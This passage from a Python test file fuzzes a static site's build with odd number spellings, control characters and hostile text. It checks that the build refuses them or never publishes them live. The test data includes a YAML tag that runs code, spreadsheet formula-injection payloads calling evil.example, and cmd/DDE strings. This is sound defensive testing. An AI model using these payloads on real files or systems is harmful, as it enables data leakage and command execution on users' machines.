    "two leading zeros": lambda n: f"00{n}",
    "hexadecimal": hex,
    "octal 0o": lambda n: f"0o{n:o}",
    "binary": bin,
    "underscores": thousands,
    "base 60": lambda n: f"{n // 60}:{n % 60:02d}" if n >= 60 else "1:30",
    "a plus sign": lambda n: f"+{n}",
    "negative": lambda n: f"-{n}",
    "a decimal point": lambda n: f"{n}.0",
    "an exponent": lambda n: f"{n}e0",
    "an exponent with a point": lambda n: f"{n}.0e+0",
    "quoted": lambda n: f"'{n}'",
    "quoted hexadecimal": lambda n: f'"{n:#x}"',
    "010": "010",
    "0x10": "0x10",
    "0o10": "0o10",
    "0b10": "0b10",
    "1_000": "1_000",
    "1:30": "1:30",
    "+5": "+5",
    "1e3": "1e3",
    "1.0e3": "1.0e3",
    "00": "00",
    "-0": "-0",
    "5000 digits": "9" * 5000,
    ".inf": ".inf",
    "-.inf": "-.inf",
    ".nan": ".nan",
    "yes": "yes",
    "null": "null",
    "empty": "",
    "a list": "[1, 2]",
    "a mapping": "{a: 1}",
    "a tag that runs code": f"!!python/object/apply:builtins.open ['{RAN}', 'w']",
}


def reads_as_number(text: str) -> bool:
    """Returns whether YAML 1.1 (PyYAML's safe loader, which runs nothing) reads `text` as a
    number."""
    try:
        value = yaml.safe_load(f"value: {text}")["value"]
    except (yaml.YAMLError, ValueError):
        return False
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def figure_of(rel: str, number: int) -> str | None:
    """Returns the figure key of the `value` on line `number` of a report, or None."""
    lines = (REPO / rel).read_text(encoding="utf-8").split("\n")[: number - 1]
    for line in reversed(lines):
        if match := re.match(r"^\s*- figure: (\w+)", line):
            return match.group(1)
    return None


def published_figure(out: Path, rel: str, key: str) -> tuple[str, object]:
    """Returns the figure `key` of the report in `rel` as its CSV and its JSON file give it."""
    name = Path(rel).name.split(".")[0]
    folder = out / "news" / name
    with (folder / "figures.csv").open(encoding="utf-8", newline="") as file:
        cell = next(csv.DictReader(file))[key]
    value = json.loads((folder / "figures.json").read_text(encoding="utf-8"))["months"][0][key]
    return cell, value


@pytest.mark.parametrize("spelling", list(SPELLINGS))
@fuzz_settings(1)
@given(data=st.data())
def test_a_count_is_plain_decimal_or_refused_at_its_line(last_good, spelling, data):
    rel, number, key, old = pick(data.draw, COUNTS, list(SPELLINGS).index(spelling))
    spell = SPELLINGS[spelling]
    text = spell(int(old)) if callable(spell) else spell
    inner = text.strip("'\"")
    plain = inner.isdigit() and len(inner) < 100
    event(f"number: {spelling} as {key}")

    def edit(site: Path) -> None:
        set_value(site, rel, number, text.encode())

    with built_copy(last_good, edit, compare_cold=False) as built:
        if built.status == 1:
            assert spelling != "plain", built.errors
            where = f"{rel}:{number}:"
            said = [
                line[len(where) :] for line in built.errors.split("\n") if line.startswith(where)
            ]
            if not plain and spelling not in ("null", "empty"):  # a value not given at all
                assert said, f"{text[:40]!r} is not refused at {where} {built.errors}"
            if not plain and len(inner) <= 20 and reads_as_number(text):
                # Refused for how it is written, not for the number YAML made of it (which a
                # total may happen to refuse at the same line).
                assert any(inner in message for message in said), (
                    f"{text!r} is not named at {where} {built.errors}"
                )
            return
        if spelling in ("null", "empty") and key in MAY_BE_LEFT_OUT:
            return  # no value is a count left out, which these may be
        assert plain, f"{rel}:{number}: {key}: {text[:40]!r} is accepted"
        if key == "value" and rel.startswith("data/patrols/"):
            cell, value = published_figure(built.out, rel, figure_of(rel, number))
            assert (cell, value) == (str(int(inner)), int(inner)), f"{text} published"
        if int(inner) == int(old):
            assert published(built.out) == published(last_good / "public")


# --- control characters and formula prefixes -------------------------------------------------

TEXT_FIELDS = {
    "report title": ("data/patrols/", None, "title"),
    "report summary": ("data/patrols/", None, "summary"),
    "statement": ("data/patrols/", "statements", "text"),
    "statement speaker": ("data/patrols/", "statements", "speaker"),
    "statement period": ("data/patrols/", "statements", "period"),
    "highlight title": ("data/patrols/", "highlights", "title"),
    "highlight text": ("data/patrols/", "highlights", "text"),
    "quote role": ("data/patrols/", "quotes", "role"),
    "quote name": ("data/patrols/", "quotes", "name"),
    "quote text": ("data/patrols/", "quotes", "text"),
    "source publisher": ("data/patrols/", "source", "publisher"),
    "source title": ("data/patrols/", "source", "title"),
    "source where": ("data/patrols/", "source", "where"),
    "figure note": ("data/patrols/", "figures", "note"),
    "page title": ("content/", None, "title"),
    "page summary": ("content/", None, "summary"),
    "site name": ("data/site", None, "name"),
    "footer note": ("data/site", None, "footer_note"),
}
TEXT_LINES = {
    field: [
        (rel, number, value.strip('"'))
        for rel, number, section, key, value in all_lines()
        if rel.startswith(prefix) and (section, key) == (where, name) and value
    ]
    for field, (prefix, where, name) in TEXT_FIELDS.items()
}
BODY_LINES = [
    (rel, number, "")
    for rel in sorted(p.relative_to(REPO).as_posix() for p in (REPO / "content").rglob("*.md"))
    for number, line in enumerate((REPO / rel).read_text(encoding="utf-8").split("\n"), 1)
    if number > front_matter_end(rel) and line[:1].isalpha()
]
TEXT_LINES["page text"] = BODY_LINES
CONTROLS = [
    *map(chr, range(0x20)),
    "\x7f",
    "\x85",
    "\x9b",
    "\ud800",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u2028",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def yaml_quoted(text: str, raw: bool) -> bytes:
    """Returns `text` as a YAML double-quoted string: escaped (\\uXXXX), or with its
    characters as they are in the file (`raw`)."""
    if not raw:
        return json.dumps(text).encode()
    inner = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{inner}"'.encode("utf-8", "surrogatepass")


@st.composite
def hostile_text_edit(draw, field: str, kind: str):
    """Returns (the file, the line, the text, a function that makes the edit): `field` given
    a control character (`kind` "control") or a formula prefix ("formula"), written escaped
    or as it is (in YAML), or as it is or as a character reference (in a page's text)."""
    seed = list(TEXT_LINES).index(field)
    rel, number, old = pick(draw, TEXT_LINES[field], seed, 1)
    if kind == "control":
        char = pick(draw, CONTROLS, seed, 2)
        at = pick(draw, ["start", "middle", "end"], seed, 3)
        cut = {"start": 0, "middle": len(old) // 2, "end": len(old)}[at]
        text = old[:cut] + char + old[cut:]
    else:
        text = pick(draw, FORMULAS, seed, 4) + (" " + old if pick(draw, [0, 1], seed, 5) else "")
    form = pick(draw, ["escaped", "raw"] if field != "page text" else ["raw", "entity"], seed, 6)
    event(f"text: {kind} {text[:12]!r} in {field}, {form}")

    def edit(site: Path) -> None:
        if field != "page text":
            set_value(site, rel, number, yaml_quoted(text, form == "raw"))
            return
        path = site / rel
        lines = path.read_bytes().split(b"\n")
        written = "".join(f"&#{ord(c)};" if c < " " or c == "\x7f" else c for c in text)
        new = written if form == "entity" else text
        lines[number - 1] = new.encode("utf-8", "surrogatepass") + b" " + lines[number - 1]
        path.write_bytes(b"\n".join(lines))

    return rel, number, text, edit


def refused_at(built, changes) -> None:
    """Checks that a refusal names one of the changed lines (or the line or two after it,
    where a raw line break moved the rest of the value on)."""
    named = [f"{rel}:{n}:" for rel, number, _, _ in changes for n in range(number, number + 3)]
    assert any(place in built.errors for place in named), (
        f"{[text for *_, text, _ in changes]!r} are not refused at their lines: {built.errors}"
    )


@pytest.mark.parametrize("field", list(TEXT_LINES))
@fuzz_settings(1)
@given(data=st.data())
def test_a_control_character_in_any_text_is_refused_at_its_line_or_left_out(last_good, field, data):
    change = data.draw(hostile_text_edit(field, "control"))
    with built_copy(last_good, change[3], compare_cold=False) as built:
        if built.status == 1:
            refused_at(built, [change])


# The text fields by the file they are in: one build puts a formula in each field of a group.
FIELD_GROUPS = {
    "report": [field for field, (prefix, *_) in TEXT_FIELDS.items() if prefix == "data/patrols/"],
    "page": ["page title", "page summary", "page text"],
    "settings": ["site name", "footer note"],
}


@pytest.mark.parametrize("group", list(FIELD_GROUPS))
@fuzz_settings(2)
@given(data=st.data())
def test_a_formula_in_every_text_field_is_refused_or_never_live_in_a_spreadsheet(
    last_good, group, data
):
    changes = [data.draw(hostile_text_edit(field, "formula")) for field in FIELD_GROUPS[group]]

    def edit(site: Path) -> None:
        for *_, change in changes:
            change(site)

    with built_copy(last_good, edit, compare_cold=False) as built:
        if built.status == 1:
            refused_at(built, changes)


# --- the checks can fail ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, data",
    [
        ("a.csv", 'month,title\n2025-01,=HYPERLINK("x")\n'),
        ("a.csv", 'month,title\n2025-01,"\t=1+1"\n'),
        ("a.csv", "month,title\n2025-01,@SUM(1)\n"),
        ("a.csv", "month,title\n2025-01\n"),
        ("a.csv", 'month,title\n2025-01,"open\n'),
        ("a.xml", "<a>\x01</a>"),
        ("a.xml", "<a><b></a>"),
        ("a.json", '{"a": }'),
        ("feed.xml", "<feed xmlns='http://www.w3.org/2005/Atom'><title>x</title></feed>"),
    ],
)
def test_the_data_file_checker_finds_each_kind_of_damage(tmp_path, name, data):
    (tmp_path / name).write_text(data, encoding="utf-8", newline="")
    with pytest.raises((AssertionError, ValueError, csv.Error)):
        check_data_files(tmp_path)
